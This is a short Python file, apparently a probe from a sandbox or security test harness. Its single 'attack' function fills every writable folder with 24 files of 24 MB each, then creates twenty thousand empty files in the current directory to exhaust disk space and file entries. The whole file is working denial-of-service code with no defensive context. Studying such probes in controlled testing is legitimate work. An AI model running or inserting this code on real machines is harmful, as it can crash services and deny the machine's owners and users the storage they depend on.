"""Fills every folder that it may write in: at most 24 files of 24 MB, then twenty thousand empty ones."""

import os


def attack(targets):
    written = 0
    for folder in targets["writable"]:
        try:
            for number in range(24):
                with open(f"{folder}/fill{number}", "wb") as file:
                    file.write(bytes(24 << 20))
                written += 24
        except OSError as problem:
            yield f"{folder}: {problem.strerror}"
    yield f"wrote {written} MB"
    try:
        for number in range(20_000):
            os.close(os.open(f"empty{number}", os.O_CREAT | os.O_WRONLY))
    except OSError as problem:
        yield f"files: {problem.strerror}"
